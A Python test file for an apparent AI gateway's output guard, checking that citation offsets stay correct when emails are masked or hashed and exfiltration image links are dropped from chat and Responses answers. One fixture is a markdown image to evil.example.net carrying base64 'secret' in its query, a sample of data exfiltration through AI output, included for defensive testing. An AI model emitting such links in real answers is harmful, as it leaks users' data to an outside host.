"""Citations keep pointing at the words the model cited once output rules redact the
answer: chat ``message.annotations`` / ``delta.annotations`` and Responses
``annotations`` (parts, ``annotation.added`` events, done events), complete and
streamed, masked (shorter), hashed (longer) and dropped, a citation before, after,
over, inside and across a redacted span; and after placeholders are restored too."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.config.schema import DetectorsConfig
from bastion.crypto.keyring import Keyring
from bastion.detect.catalog import build_answer_detectors, build_scanner
from bastion.detect.inspector import DetectorInspector
from bastion.model import Endpoint
from bastion.model.controls import OutputAction, OutputMode, OutputPlan
from bastion.pipeline.context import CallContext, IncomingCall
from bastion.pipeline.output_guard import OutputGuard, OutputGuardHook
from bastion.pipeline.response import finish_json_body, stream_hooks
from bastion.pipeline.stream import StreamEvent, StreamRelay
from bastion.wire.sse import SseParser

KEYRING = Keyring.generate()
_CONFIG = DetectorsConfig.model_validate({"output": {"link_allow_domains": ["docs.example.com"]}})
_SCANNER = build_scanner(_CONFIG)
INSPECTOR = DetectorInspector(_SCANNER, KEYRING, build_answer_detectors(_CONFIG, _SCANNER))
MODEL = "gpt-4o-search-preview"

EMAIL = "ann.lee@contoso-example.com"
SHORT = "jo@contoso.com"  # shorter than its hashed stand-in: the text grows
IMAGE = "![chart](https://evil.example.net/pixel.png?q=c2VjcmV0)"  # dropped: the text shrinks
TEXT = (
    f"Write to {EMAIL} (see the guide). {IMAGE} The policy applies to every team, "
    f"says {SHORT} in the handbook."
)


def at(words: str, shift: int = 0, length: int | None = None) -> tuple[int, int]:
    start = TEXT.index(words) + shift
    return start, start + (len(words) - shift if length is None else length)


# (model offsets, the words the client must read there; {email}/{short}: their stand-ins)
CITED: list[tuple[tuple[int, int], str]] = [
    (at("Write"), "Write"),  # before any redaction
    (at("the guide"), "the guide"),  # after a masked value
    (at("policy"), "policy"),  # after a masked and a dropped one
    (at("handbook"), "handbook"),  # after all three
    (at(EMAIL), "{email}"),  # the masked value itself
    (at(EMAIL, 3, 4), "{email}"),  # starting and ending inside it
    (at(f"to {EMAIL} (see"), "to {email} (see"),  # across it
    (at(f"{EMAIL} (see the guide", 5), "{email} (see the guide"),  # from inside it
    (at(f"Write to {EMAIL}", 0, 12), "Write to {email}"),  # ending inside it
    (at(f"says {SHORT} in"), "says {short} in"),  # across a value that grows
    (at(SHORT, 2, 3), "{short}"),  # inside it
    (at(IMAGE), ""),  # the dropped value: empty, where it stood
    (at(f"guide). {IMAGE} The"), "guide).  The"),  # across it
    (at(f"the guide). {IMAGE}", 0, 20), "the guide). "),  # ending inside it
    (at(f"{IMAGE} The policy", 9), " The policy"),  # from inside it
]

DROPPED = CITED.index((at(IMAGE), ""))


def addresses(transform: Literal["mask", "hash"]) -> OutputPlan:
    """Addresses replaced by ``transform``, images carrying data dropped."""
    rules = (
        ("pii.email", OutputAction("redact", "out.pii", transform)),
        ("output.exfil_link", OutputAction("redact", "out.links", "drop")),
    )
    return OutputPlan(rules, "window", 64)


MASK = addresses("mask")
HASH = addresses("hash")  # a longer stand-in than SHORT, a shorter one than EMAIL


def expected_text(plan: OutputPlan) -> tuple[str, dict[str, str]]:
    """The redacted text, and what stands for each address in it."""
    if plan is MASK:
        names = {"email": "[EMAIL]", "short": "[EMAIL]"}
    else:
        guard = OutputGuard(plan, INSPECTOR, KEYRING)
        names = {
            name: guard.review((0, 0), value, guard.inspect(value))
            for name, value in (("email", EMAIL), ("short", SHORT))
        }
        assert len(names["short"]) > len(SHORT) and len(names["email"]) < len(EMAIL)
    text = TEXT.replace(EMAIL, names["email"]).replace(SHORT, names["short"])
    return text.replace(IMAGE, ""), names


def url_citation(start: int, end: int, number: int) -> dict[str, Any]:
    return {
        "start_index": start,
        "end_index": end,
        "url": f"https://docs.example.com/{number}",
        "title": f"Source {number}",
    }


def chat_annotations(numbers: Sequence[int]) -> list[dict[str, Any]]:
    return [
        {"type": "url_citation", "url_citation": url_citation(*CITED[n][0], n)} for n in numbers
    ]


def responses_annotations() -> list[dict[str, Any]]:
    return [{"type": "url_citation", **url_citation(*s, n)} for n, (s, _) in enumerate(CITED)]


def assert_cited(
    text: str, citations: Sequence[Mapping[str, Any]], plan: OutputPlan = MASK
) -> None:
    redacted, names = expected_text(plan)
    assert text == redacted
    assert len(citations) == len(CITED)
    for citation in citations:
        number = int(citation["url"].rsplit("/", 1)[1])
        words = text[citation["start_index"] : citation["end_index"]]
        assert words == CITED[number][1].format(**names), citation["title"]
    dropped = next(c for c in citations if c["url"].endswith(f"/{DROPPED}"))
    assert dropped["start_index"] == redacted.index(" The policy")  # where the link stood


# -- complete answers ----------------------------------------------------------------


def chat_answer() -> dict[str, Any]:
    message = {
        "role": "assistant",
        "content": TEXT,
        "annotations": chat_annotations(range(len(CITED))),
    }
    return {
        "object": "chat.completion",
        "model": MODEL,
        "choices": [{"index": 0, "message": message}],
    }


def responses_answer() -> dict[str, Any]:
    part = {"type": "output_text", "text": TEXT, "annotations": responses_annotations()}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    return {"id": "resp_1", "object": "response", "model": MODEL, "output": [item]}


@pytest.mark.parametrize("plan", [MASK, HASH], ids=["mask", "hash"])
def test_a_complete_chat_answer_moves_its_citations_with_the_redactions(plan: OutputPlan) -> None:
    answer = chat_answer()
    assert OutputGuard(plan, INSPECTOR, KEYRING).apply_json(answer) is True
    message = answer["choices"][0]["message"]
    assert_cited(message["content"], [a["url_citation"] for a in message["annotations"]], plan)


@pytest.mark.parametrize("plan", [MASK, HASH], ids=["mask", "hash"])
def test_a_complete_responses_answer_moves_its_citations_with_the_redactions(
    plan: OutputPlan,
) -> None:
    answer = responses_answer()
    assert OutputGuard(plan, INSPECTOR, KEYRING).apply_json(answer) is True
    part = answer["output"][0]["content"][0]
    assert_cited(part["text"], part["annotations"], plan)


# -- streams ---------------------------------------------------------------------------


def pieces(size: int, text: str = TEXT) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def placed(chunks: Sequence[str], where: str) -> dict[int, list[int]]:
    """After which chunk each citation goes out: all after the last ("end"), each after
    the chunk holding its last character ("after"), or all after the first ("before")."""
    after: dict[int, list[int]] = {}
    ends = [sum(map(len, chunks[: i + 1])) for i in range(len(chunks))]
    for number, ((_, end), _) in enumerate(CITED):
        if where == "end":
            position = len(chunks) - 1
        elif where == "after":
            position = next(i for i, stop in enumerate(ends) if stop >= end)
        else:
            position = 0
        after.setdefault(position, []).append(number)
    return after


def chat_chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": MODEL,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def chat_payloads(size: int, where: str, text: str = TEXT) -> list[dict[str, Any] | str]:
    chunks = pieces(size, text)
    citing = placed(chunks, where)
    payloads: list[dict[str, Any] | str] = [chat_chunk({"role": "assistant", "content": ""})]
    for position, piece in enumerate(chunks):
        delta: dict[str, Any] = {"content": piece}
        if position in citing and where != "end":
            delta["annotations"] = chat_annotations(citing[position])
        payloads.append(chat_chunk(delta))
    if where == "end":  # as gpt-4o-search-preview: a last delta with only annotations
        payloads.append(chat_chunk({"annotations": chat_annotations(range(len(CITED)))}))
    return [*payloads, chat_chunk({}, finish="stop"), "[DONE]"]


def chat_client_view(payloads: Sequence[Any]) -> tuple[str, list[dict[str, Any]]]:
    text, citations = "", []
    for payload in payloads:
        if isinstance(payload, dict):
            for choice in payload["choices"]:
                text += choice["delta"].get("content") or ""
                citations += [a["url_citation"] for a in choice["delta"].get("annotations") or ()]
    return text, citations


def responses_payloads(size: int, where: str) -> list[dict[str, Any]]:
    chunks = pieces(size)
    citing = placed(chunks, where)
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    annotations = responses_annotations()
    part = {"type": "output_text", "text": TEXT, "annotations": annotations}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    response = {"id": "resp_1", "object": "response", "created_at": 5, "model": MODEL}
    events: list[tuple[str, dict[str, Any]]] = [
        ("response.created", {"response": {**response, "status": "in_progress", "output": []}}),
    ]
    for position, piece in enumerate(chunks):
        events.append(("response.output_text.delta", {**place, "delta": piece}))
        events += [
            (
                "response.output_text.annotation.added",
                {**place, "annotation_index": number, "annotation": annotations[number]},
            )
            for number in citing.get(position, ())
        ]
    events += [
        ("response.output_text.done", {**place, "text": TEXT}),
        ("response.content_part.done", {**place, "part": part}),
        ("response.output_item.done", {"output_index": 0, "item": item}),
        ("response.completed", {"response": {**response, "status": "completed", "output": [item]}}),
    ]
    return [{"type": kind, "sequence_number": n, **body} for n, (kind, body) in enumerate(events)]


def assert_responses_cited(payloads: Sequence[dict[str, Any]], plan: OutputPlan = MASK) -> None:
    """The text from the deltas with the citations from the annotation events, and the
    part each done event repeats, all cover the cited words."""
    streamed: tuple[str, list[dict[str, Any]]] = ("", [])
    repeated = []
    for payload in payloads:
        kind = payload["type"]
        if kind == "response.output_text.delta":
            streamed = (streamed[0] + payload["delta"], streamed[1])
        elif kind == "response.output_text.annotation.added":
            streamed[1].append(payload["annotation"])
        elif kind == "response.content_part.done":
            repeated.append(payload["part"])
        elif kind == "response.output_item.done":
            repeated.append(payload["item"]["content"][0])
        elif kind == "response.completed":
            repeated.append(payload["response"]["output"][0]["content"][0])
    assert_cited(*streamed, plan)
    assert len(repeated) == 3
    for part in repeated:
        assert_cited(part["text"], part["annotations"], plan)


def as_events(payloads: Sequence[dict[str, Any] | str]) -> list[StreamEvent]:
    events = []
    for payload in payloads:
        if isinstance(payload, str):  # [DONE]
            events.append(StreamEvent(SseParser().feed(f"data: {payload}\n\n".encode())[0]))
        else:
            kind = payload.get("type") if "choices" not in payload else None
            events.append(StreamEvent.from_payload(json.loads(json.dumps(payload)), event=kind))
    return events


def guarded(payloads: Sequence[dict[str, Any] | str], plan: OutputPlan) -> list[Any]:
    hook = OutputGuardHook(OutputGuard(plan, INSPECTOR, KEYRING))
    out: list[StreamEvent] = []
    for event in as_events(payloads):
        out += hook.on_event(event)
    out += hook.on_end()
    return [event.payload for event in out if not event.is_comment]


def with_mode(plan: OutputPlan, mode: OutputMode) -> OutputPlan:
    return OutputPlan(plan.rules, mode, plan.window_chars)


STREAMS = [
    pytest.param(size, where, id=f"{size}-{where}")
    for size in (1, 5, 200)
    for where in ("end", "after", "before")
]


@pytest.mark.parametrize("mode", ["window", "buffer"])
@pytest.mark.parametrize(("size", "where"), STREAMS)
def test_chat_stream_citations_move_with_the_redactions(
    size: int, where: str, mode: OutputMode
) -> None:
    out = guarded(chat_payloads(size, where), with_mode(MASK, mode))
    assert_cited(*chat_client_view(out))


@pytest.mark.parametrize("mode", ["window", "buffer"])
@pytest.mark.parametrize(("size", "where"), STREAMS)
def test_responses_stream_citations_move_with_the_redactions(
    size: int, where: str, mode: OutputMode
) -> None:
    payloads = responses_payloads(size, where)
    out = guarded(payloads, with_mode(MASK, mode))
    assert_responses_cited(out)
    kinds = [p["type"] for p in out if p["type"] != "response.output_text.delta"]
    assert kinds == [p["type"] for p in payloads if p["type"] != "response.output_text.delta"]


def test_hashed_values_move_streamed_citations_too() -> None:
    assert_cited(*chat_client_view(guarded(chat_payloads(3, "after"), HASH)), HASH)
    assert_responses_cited(guarded(responses_payloads(3, "before"), HASH), HASH)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.integers(min_value=1, max_value=23), min_size=1, max_size=30),
    st.lists(st.integers(min_value=0, max_value=len(TEXT)), min_size=len(CITED),
             max_size=len(CITED)),
)  # fmt: skip
def test_any_chunking_and_placement_gives_the_citations_a_complete_answer_would(
    sizes: list[int], sent_at: list[int]
) -> None:
    """Each citation goes out with the chunk holding the character it was drawn at."""
    chunks: list[str] = []
    start = 0
    while start < len(TEXT):
        size = sizes[len(chunks) % len(sizes)]
        chunks.append(TEXT[start : start + size])
        start += size
    ends = [sum(map(len, chunks[: i + 1])) for i in range(len(chunks))]
    citing: dict[int, list[int]] = {}
    for number, character in enumerate(sent_at):
        position = next(i for i, end in enumerate(ends) if end >= character)
        citing.setdefault(position, []).append(number)
    payloads: list[dict[str, Any] | str] = []
    for position, piece in enumerate(chunks):
        delta: dict[str, Any] = {"content": piece}
        if position in citing:
            delta["annotations"] = chat_annotations(citing[position])
        payloads.append(chat_chunk(delta))
    text, streamed = chat_client_view(guarded([*payloads, chat_chunk({}, "stop")], MASK))
    assert_cited(text, streamed)
    whole = chat_answer()
    OutputGuard(MASK, INSPECTOR, KEYRING).apply_json(whole)
    message = whole["choices"][0]["message"]
    assert text == message["content"]
    assert sorted(streamed, key=lambda c: c["url"]) == sorted(
        (a["url_citation"] for a in message["annotations"]), key=lambda c: c["url"]
    )


async def test_a_clean_stream_keeps_its_citation_events_byte_for_byte() -> None:
    """Nothing redacted: nothing moved, every event as it came."""
    clean = TEXT
    for value in (EMAIL, SHORT, IMAGE):
        clean = clean.replace(value, "x" * len(value))
    raw = sse(chat_payloads(7, "after", clean))
    relay = StreamRelay([OutputGuardHook(OutputGuard(MASK, INSPECTOR, KEYRING))], dialect="chat")

    async def upstream() -> AsyncIterator[bytes]:
        yield raw

    assert b"".join([piece async for piece in relay.relay(upstream())]) == raw


# -- redaction, then restoration: the hooks and steps an answer really goes through -----

PLACEHOLDER = "<PERSON_1a2b3c4d>"
ORIGINAL = "Dana Whitfield"
RESTORED_TEXT = f"Ask {PLACEHOLDER} or {EMAIL} about the guide, then {IMAGE} read it."
RESTORED_CITED = [
    ("Ask", "Ask"),
    (PLACEHOLDER, ORIGINAL),
    (f"{PLACEHOLDER} or {EMAIL}", f"{ORIGINAL} or [EMAIL]"),
    ("the guide", "the guide"),
    ("read it", "read it"),
]


@dataclass(frozen=True)
class Applied:
    restorations: Mapping[str, str] = field(default_factory=lambda: {PLACEHOLDER: ORIGINAL})
    json_answer: bool = False


def restored_annotations(chat: bool) -> list[dict[str, Any]]:
    notes = []
    for number, (words, _) in enumerate(RESTORED_CITED):
        start = RESTORED_TEXT.index(words)
        citation = url_citation(start, start + len(words), number)
        notes.append(
            {"type": "url_citation", "url_citation": citation}
            if chat
            else {"type": "url_citation", **citation}
        )
    return notes


def assert_restored_cited(text: str, citations: Sequence[Mapping[str, Any]]) -> None:
    assert text == f"Ask {ORIGINAL} or [EMAIL] about the guide, then  read it."
    assert len(citations) == len(RESTORED_CITED)
    for citation in citations:
        number = int(citation["url"].rsplit("/", 1)[1])
        assert text[citation["start_index"] : citation["end_index"]] == RESTORED_CITED[number][1]


def call_guard() -> OutputGuard:
    return OutputGuard(MASK, INSPECTOR, KEYRING, frozenset({PLACEHOLDER}))


def test_a_complete_answer_moves_its_citations_through_redaction_and_restoration() -> None:
    message = {
        "role": "assistant",
        "content": RESTORED_TEXT,
        "annotations": restored_annotations(True),
    }
    chat = {
        "object": "chat.completion",
        "model": MODEL,
        "choices": [{"index": 0, "message": message}],
    }
    body = orjson.loads(finish_json_body(b"{}", chat, MODEL, Applied(), call_guard()))
    message = body["choices"][0]["message"]
    assert_restored_cited(message["content"], [a["url_citation"] for a in message["annotations"]])
    part = {
        "type": "output_text",
        "text": RESTORED_TEXT,
        "annotations": restored_annotations(False),
    }
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    responses = {"id": "resp_1", "object": "response", "model": MODEL, "output": [item]}
    body = orjson.loads(finish_json_body(b"{}", responses, MODEL, Applied(), call_guard()))
    part = body["output"][0]["content"][0]
    assert_restored_cited(part["text"], part["annotations"])


def sse(payloads: Sequence[dict[str, Any] | str]) -> bytes:
    raw = ""
    for payload in payloads:
        if isinstance(payload, str):
            raw += f"data: {payload}\n\n"
        elif "choices" in payload:
            raw += f"data: {json.dumps(payload)}\n\n"
        else:
            raw += f"event: {payload['type']}\ndata: {json.dumps(payload)}\n\n"
    return raw.encode()


async def relayed(payloads: Sequence[dict[str, Any] | str], endpoint: Endpoint) -> list[Any]:
    ctx = CallContext(IncomingCall(endpoint, b"{}", None, "req_1", 0.0), model_used=MODEL)
    body = {"stream_options": {"include_usage": True}}
    hooks, _ = stream_hooks(ctx, body, Applied(), call_guard())
    relay = StreamRelay(hooks, dialect="chat" if endpoint is Endpoint.CHAT else "responses")
    raw = sse(payloads)

    async def upstream() -> AsyncIterator[bytes]:
        for start in range(0, len(raw), 61):
            yield raw[start : start + 61]

    parser = SseParser()
    events = parser.feed(b"".join([piece async for piece in relay.relay(upstream())]))
    return [orjson.loads(e.data) for e in events + parser.finish() if e.data and e.data != "[DONE]"]


@pytest.mark.parametrize("size", [1, 4, 200])
async def test_a_relayed_chat_stream_moves_citations_through_redaction_and_restoration(
    size: int,
) -> None:
    chunks = [RESTORED_TEXT[i : i + size] for i in range(0, len(RESTORED_TEXT), size)]
    payloads: list[dict[str, Any] | str] = [chat_chunk({"content": c}) for c in chunks]
    payloads += [chat_chunk({"annotations": restored_annotations(True)}), chat_chunk({}, "stop")]
    out = await relayed([*payloads, "[DONE]"], Endpoint.CHAT)
    assert_restored_cited(*chat_client_view(out))


@pytest.mark.parametrize("size", [1, 4, 200])
async def test_a_relayed_responses_stream_moves_citations_through_redaction_and_restoration(
    size: int,
) -> None:
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    notes = restored_annotations(False)
    part = {"type": "output_text", "text": RESTORED_TEXT, "annotations": notes}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "content": [part]}
    events: list[tuple[str, dict[str, Any]]] = [
        ("response.output_text.annotation.added", {**place, "annotation_index": n, "annotation": a})
        for n, a in enumerate(notes)
    ]  # before the text they cite
    events += [
        ("response.output_text.delta", {**place, "delta": RESTORED_TEXT[i : i + size]})
        for i in range(0, len(RESTORED_TEXT), size)
    ]
    events += [
        ("response.content_part.done", {**place, "part": part}),
        ("response.completed", {"response": {"id": "resp_1", "object": "response",
                                             "model": MODEL, "output": [item]}}),
    ]  # fmt: skip
    payloads = [{"type": k, "sequence_number": n, **b} for n, (k, b) in enumerate(events)]
    out = await relayed(payloads, Endpoint.RESPONSES)
    text = "".join(p["delta"] for p in out if p["type"] == "response.output_text.delta")
    added = [p["annotation"] for p in out if p["type"] == "response.output_text.annotation.added"]
    assert_restored_cited(text, added)
    for payload in out:
        if payload["type"] == "response.content_part.done":
            assert_restored_cited(payload["part"]["text"], payload["part"]["annotations"])
        elif payload["type"] == "response.completed":
            done = payload["response"]["output"][0]["content"][0]
            assert_restored_cited(done["text"], done["annotations"])
